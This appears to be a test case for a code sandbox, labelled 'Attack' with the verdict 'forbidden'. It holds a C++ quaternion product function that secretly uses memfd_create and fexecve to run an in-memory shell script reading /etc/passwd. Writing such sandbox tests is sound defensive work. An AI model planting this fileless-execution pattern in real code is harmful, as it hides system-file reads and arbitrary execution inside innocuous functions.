// Attack: writes a program into a file that is in memory only, and starts that.
// Verdict: forbidden
#include <sys/mman.h>
#include <unistd.h>

namespace quaternions {
Quaternion product(const Quaternion& a, const Quaternion&) {
  const int file = memfd_create("program", 0);
  if (write(file, "#!/bin/sh\ncat /etc/passwd\n", 26) < 0) return 2 * a;
  fexecve(file, nullptr, nullptr);
  return a;
}
}  // namespace quaternions
